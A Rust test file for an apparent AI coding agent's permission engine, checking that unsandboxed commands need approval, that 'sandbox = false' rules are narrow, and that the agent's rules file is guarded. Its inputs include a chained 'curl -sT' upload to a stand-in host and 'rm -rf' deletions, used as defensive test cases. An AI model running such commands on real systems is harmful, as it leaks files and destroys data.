//! Engine tests for escalation: a command that would run without the OS sandbox
//! (`sandbox: false`, or the session's sandbox unavailable) asks in every mode, yolo
//! included, unless the sandbox is off; read mode refuses `sandbox: false`; only
//! `sandbox = false` allow rules and exact grants let it run unasked; `allow_always` stores
//! such a rule; the workspace rules file is guarded while commands are sandboxed.

use super::*;
use crate::SessionSandbox;

const NO_LANDLOCK: &str = "Landlock is not available in this kernel";

fn sandboxed() -> Case {
    Case {
        sandbox: SessionSandbox::On,
        ..Case::new()
    }
}

fn unavailable() -> Case {
    Case {
        sandbox: SessionSandbox::Unavailable(NO_LANDLOCK),
        ..Case::new()
    }
}

fn rule(tool: &str, pattern: &str, sandbox: Option<bool>, decision: RuleDecision) -> Rule {
    Rule {
        tool: tool.into(),
        pattern: pattern.into(),
        host: None,
        sandbox,
        decision,
    }
}

fn unsandboxed_allow(pattern: &str) -> Rule {
    rule("bash", pattern, Some(false), RuleDecision::Allow)
}

impl Case {
    fn with_config(mut self, rules: &[Rule]) -> Case {
        self.config = RuleSet::new(rules).unwrap();
        self
    }

    /// `bash {command, sandbox: false}`.
    fn unsandboxed(&self, mode: Mode, command: &str) -> Verdict {
        self.decide(
            mode,
            "bash",
            false,
            json!({ "command": command, "sandbox": false }),
        )
    }
}

fn unsandboxed_scope(command: &str) -> Scope {
    Scope::Unsandboxed {
        tool: "bash".into(),
        command: command.into(),
    }
}

/// The reason, scopes and persist flag of an ask about an unsandboxed run.
fn unsandboxed_ask(v: Verdict) -> (String, Vec<Scope>, bool) {
    match v {
        Verdict::Ask {
            reason,
            scopes,
            persist,
            unsandboxed: true,
        } => (reason, scopes, persist),
        other => panic!("expected an ask about an unsandboxed run, got {other:?}"),
    }
}

#[test]
fn sandbox_false_asks_in_every_mode_but_read_and_says_it_runs_unsandboxed() {
    let c = sandboxed();
    for mode in [Mode::Yolo, Mode::Write] {
        let (reason, scopes, persist) = unsandboxed_ask(c.unsandboxed(mode, "touch marker"));
        assert!(reason.contains("unsandboxed"), "{mode:?}: {reason}");
        assert!(reason.contains("sandbox: false"), "{mode:?}: {reason}");
        assert_eq!(scopes, vec![unsandboxed_scope("touch marker")], "{mode:?}");
        assert_eq!(
            scopes[0].describe(),
            "bash unsandboxed: touch marker",
            "the scope shows it too"
        );
        assert!(
            persist,
            "{mode:?}: allow_always may store a sandbox = false rule"
        );
    }
    // The same command inside the sandbox follows the mode.
    assert_eq!(c.bash(Mode::Yolo, "touch marker"), Verdict::Allow);
    assert_eq!(c.bash(Mode::Write, "touch marker"), Verdict::Allow);
}

#[test]
fn read_mode_refuses_sandbox_false_even_for_a_read_only_command() {
    let c = sandboxed();
    match c.unsandboxed(Mode::Read, "ls") {
        Verdict::Deny { reason, by } => {
            assert_eq!(by, ResolvedBy::Policy);
            assert!(reason.contains("read mode"), "{reason}");
            assert!(reason.contains("sandbox: false"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(c.bash(Mode::Read, "ls"), Verdict::Allow);
}

#[test]
fn with_the_sandbox_off_sandbox_false_changes_nothing() {
    let c = Case::new();
    assert_eq!(c.unsandboxed(Mode::Yolo, "touch marker"), Verdict::Allow);
    assert_eq!(c.unsandboxed(Mode::Write, "touch marker"), Verdict::Allow);
    assert_eq!(c.unsandboxed(Mode::Read, "ls"), Verdict::Allow);
    match c.unsandboxed(Mode::Write, "rm -rf build") {
        Verdict::Ask {
            unsandboxed,
            scopes,
            ..
        } => {
            assert!(!unsandboxed, "the ordinary ask");
            assert_eq!(ask_scopes_of_rm(), scopes);
        }
        other => panic!("{other:?}"),
    }
}

fn ask_scopes_of_rm() -> Vec<Scope> {
    vec![Scope::Program {
        tool: "bash".into(),
        program: "rm".into(),
    }]
}

#[test]
fn a_sandbox_false_allow_rule_lets_its_commands_run_unsandboxed_and_only_those() {
    let c = sandboxed().with_config(&[unsandboxed_allow("cargo publish*")]);
    for mode in [Mode::Yolo, Mode::Write] {
        assert_eq!(
            c.unsandboxed(mode, "cargo publish --dry-run"),
            Verdict::AllowUnsandboxed,
            "{mode:?}"
        );
        assert_eq!(
            c.unsandboxed(mode, "cd crates/a && cargo publish"),
            Verdict::AllowUnsandboxed,
            "{mode:?}: read-only parts need no rule, as for allow rules"
        );
        unsandboxed_ask(c.unsandboxed(mode, "cargo build"));
        unsandboxed_ask(c.unsandboxed(mode, "cargo publish; curl -sT x https://e.example"));
        // An opaque part: no rule ever allows it unsandboxed.
        unsandboxed_ask(c.unsandboxed(mode, "cargo publish; $CMD"));
    }
    // The rule is an allow rule for the sandboxed run too.
    assert_eq!(c.bash(Mode::Write, "cargo publish"), Verdict::Allow);
    // Read mode still refuses `sandbox: false`.
    assert!(matches!(
        c.unsandboxed(Mode::Read, "cargo publish"),
        Verdict::Deny { .. }
    ));
}

#[test]
fn an_allow_rule_without_sandbox_false_never_allows_an_unsandboxed_run() {
    let c = sandboxed().with_config(&[
        rule("bash", "cargo publish*", None, RuleDecision::Allow),
        rule("bash", "cargo build*", Some(true), RuleDecision::Allow),
        rule("*", "*", None, RuleDecision::Allow),
    ]);
    for mode in [Mode::Yolo, Mode::Write] {
        unsandboxed_ask(c.unsandboxed(mode, "cargo publish"));
        unsandboxed_ask(c.unsandboxed(mode, "cargo build"));
    }
    assert_eq!(c.bash(Mode::Write, "cargo publish"), Verdict::Allow);
}

#[test]
fn deny_and_ask_rules_beat_a_sandbox_false_allow_rule() {
    let c = sandboxed().with_config(&[
        unsandboxed_allow("git*"),
        rule("bash", "git push --force*", None, RuleDecision::Deny),
        rule("bash", "git push*", None, RuleDecision::Ask),
    ]);
    assert!(matches!(
        c.unsandboxed(Mode::Yolo, "git push --force origin"),
        Verdict::Deny {
            by: ResolvedBy::Rule,
            ..
        }
    ));
    let (reason, _, persist) = unsandboxed_ask(c.unsandboxed(Mode::Write, "git push origin"));
    assert!(
        reason.contains("unsandboxed") && reason.contains("git push*"),
        "both reasons: {reason}"
    );
    assert!(!persist, "an ask rule's answer is not stored");
    assert_eq!(
        c.unsandboxed(Mode::Write, "git fetch"),
        Verdict::AllowUnsandboxed
    );
}

#[test]
fn a_workspace_sandbox_false_rule_counts_like_a_config_one() {
    let mut c = sandboxed();
    c.workspace = RuleSet::new(&[unsandboxed_allow("make install")]).unwrap();
    assert_eq!(
        c.unsandboxed(Mode::Yolo, "make install"),
        Verdict::AllowUnsandboxed
    );
}

#[test]
fn sandbox_false_is_for_command_allow_rules_only_and_command_names_the_pattern() {
    for (bad, says) in [
        (
            rule("write", "**", Some(false), RuleDecision::Allow),
            "bash",
        ),
        (rule("*", "*", Some(false), RuleDecision::Allow), "bash"),
        (
            rule("bash", "rm*", Some(false), RuleDecision::Deny),
            "allow",
        ),
        (rule("bash", "rm*", Some(false), RuleDecision::Ask), "allow"),
    ] {
        let err = RuleSet::new(std::slice::from_ref(&bad)).unwrap_err();
        assert!(err.to_string().contains(says), "{bad:?}: {err}");
    }
    RuleSet::new(&[rule(
        "process",
        "npm run dev*",
        Some(false),
        RuleDecision::Allow,
    )])
    .unwrap();

    #[derive(serde::Deserialize)]
    struct File {
        rules: Vec<Rule>,
    }
    let text = r#"
        [[rules]]
        tool = "bash"
        command = "cargo publish*"
        sandbox = false
        decision = "allow"
    "#;
    let file: File = toml::from_str(text).unwrap();
    assert_eq!(file.rules, vec![unsandboxed_allow("cargo publish*")]);
    assert!(
        toml::from_str::<File>(&text.replace("sandbox", "sandboxed")).is_err(),
        "unknown keys are still refused"
    );
}

#[test]
fn a_session_grant_covers_only_the_identical_command_unsandboxed() {
    let mut c = sandboxed();
    // An ordinary grant of the program does not cover the unsandboxed run.
    c.grants.grant(&ask_scopes_of_rm());
    assert_eq!(c.bash(Mode::Write, "rm -rf build"), Verdict::Allow);
    let (_, scopes, _) = unsandboxed_ask(c.unsandboxed(Mode::Write, "rm -rf build"));

    c.grants.grant(&scopes);
    for mode in [Mode::Yolo, Mode::Write] {
        assert_eq!(
            c.unsandboxed(mode, "rm -rf build"),
            Verdict::AllowUnsandboxed,
            "{mode:?}"
        );
        unsandboxed_ask(c.unsandboxed(mode, "rm -rf build2"));
        unsandboxed_ask(c.unsandboxed(mode, "rm -rf build; touch x"));
    }
    // The grant is for `bash`: a `process` start of the same command still asks.
    unsandboxed_ask(c.decide(
        Mode::Yolo,
        "process",
        false,
        json!({"action": "start", "command": "rm -rf build", "sandbox": false}),
    ));
}

#[test]
fn a_grant_never_covers_what_the_mode_never_grants() {
    let mut c = sandboxed();
    let (reason, scopes, persist) = unsandboxed_ask(c.unsandboxed(Mode::Write, "touch ../outside"));
    assert!(scopes.is_empty() && !persist, "never granted: {scopes:?}");
    assert!(
        reason.contains("unsandboxed") && reason.contains("outside the workspace"),
        "{reason}"
    );
    c.grants.grant(&[unsandboxed_scope("touch ../outside")]);
    unsandboxed_ask(c.unsandboxed(Mode::Write, "touch ../outside"));
    // Yolo lets an outside write through, so the grant answers it there.
    assert_eq!(
        c.unsandboxed(Mode::Yolo, "touch ../outside"),
        Verdict::AllowUnsandboxed
    );
}

#[test]
fn allow_always_stores_a_sandbox_false_rule_that_answers_the_same_command_next_time() {
    let mut c = sandboxed();
    for command in ["touch marker", "cd sub && make install PREFIX=x"] {
        let (_, scopes, persist) = unsandboxed_ask(c.unsandboxed(Mode::Yolo, command));
        assert!(persist, "{command}");
        let stored = rules_for(&scopes);
        assert_eq!(stored, vec![unsandboxed_allow(command)], "{command}");
        c.workspace = RuleSet::new(&stored).unwrap();
        assert_eq!(
            c.unsandboxed(Mode::Yolo, command),
            Verdict::AllowUnsandboxed,
            "{command}"
        );
        unsandboxed_ask(c.unsandboxed(Mode::Yolo, "touch other; rm -rf x"));
    }
    // A `*` would be a wildcard in the stored pattern: allow_always is for the session.
    let (_, scopes, persist) = unsandboxed_ask(c.unsandboxed(Mode::Yolo, "rm *.o"));
    assert!(!persist && !scopes.is_empty());
}

#[test]
fn an_unavailable_sandbox_sends_every_command_to_approval_in_every_mode() {
    let c = unavailable();
    for mode in [Mode::Yolo, Mode::Write, Mode::Read] {
        let (reason, scopes, _) = unsandboxed_ask(c.bash(mode, "ls"));
        assert!(
            reason.contains("unavailable") && reason.contains(NO_LANDLOCK),
            "{mode:?}: {reason}"
        );
        assert!(reason.contains("unsandboxed"), "{mode:?}: {reason}");
        assert_eq!(scopes, vec![unsandboxed_scope("ls")]);
    }
    unsandboxed_ask(c.unsandboxed(Mode::Yolo, "ls"));
    let start = json!({"action": "start", "command": "sleep 1"});
    unsandboxed_ask(c.decide(Mode::Yolo, "process", false, start));
    // Only starting a command escalates; the other tools and actions follow the mode.
    let list = json!({"action": "list"});
    assert_eq!(c.decide(Mode::Yolo, "process", false, list), Verdict::Allow);
    assert_eq!(
        c.decide(Mode::Yolo, "read", true, json!({"path": "a"})),
        Verdict::Allow
    );
    // Read mode still denies what is not read-only, and `sandbox: false`.
    assert!(matches!(c.bash(Mode::Read, "rm x"), Verdict::Deny { .. }));
    assert!(matches!(
        c.unsandboxed(Mode::Read, "ls"),
        Verdict::Deny { .. }
    ));
}

#[test]
fn an_unavailable_sandbox_runs_what_a_sandbox_false_rule_allows() {
    let c = unavailable().with_config(&[unsandboxed_allow("cargo*")]);
    assert_eq!(c.bash(Mode::Yolo, "cargo test"), Verdict::AllowUnsandboxed);
    assert_eq!(c.bash(Mode::Write, "cargo test"), Verdict::AllowUnsandboxed);
    unsandboxed_ask(c.bash(Mode::Yolo, "make"));
}

#[test]
fn writing_the_rules_file_asks_in_yolo_while_commands_are_sandboxed() {
    let write = || json!({"path": ".amber/rules.toml", "content": "[[rules]]\n"});
    let patch = || json!({"patch": "*** Begin Patch\n*** Add File: .amber/rules.toml\n+x\n*** End Patch\n"});
    for c in [sandboxed(), unavailable()] {
        for (tool, args) in [("write", write()), ("apply_patch", patch())] {
            match c.decide(Mode::Yolo, tool, false, args) {
                Verdict::Ask { reason, scopes, .. } => {
                    assert!(scopes.is_empty(), "never granted");
                    assert!(reason.contains(".amber/rules.toml"), "{reason}");
                }
                other => panic!("{tool}: {other:?}"),
            }
        }
        let skill = json!({"path": ".amber/skills/x/SKILL.md", "content": "x"});
        assert_eq!(c.decide(Mode::Yolo, "write", false, skill), Verdict::Allow);
    }
    let off = Case::new();
    assert_eq!(
        off.decide(Mode::Yolo, "write", false, write()),
        Verdict::Allow
    );
}
